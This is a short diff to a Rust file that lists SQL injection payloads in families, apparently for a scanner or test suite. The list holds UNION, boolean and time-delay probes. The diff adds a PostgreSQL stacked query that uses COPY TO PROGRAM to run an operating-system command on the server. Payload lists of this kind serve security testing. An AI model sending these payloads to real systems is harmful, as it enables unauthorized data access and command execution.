@@ -36,6 +36,7 @@ pub const FAMILIES: &[Family] = &[
             "-1 UNION ALL SELECT NULL,NULL,@@version",
             "x' AND(LENGTH(DATABASE())>1)-- ",
             "1 AND BENCHMARK(5000000/**/*2,SHA1(0x41))",
+            "1';COPY (SELECT '') TO PROGRAM 'id'--",
         ],
     },
     Family {
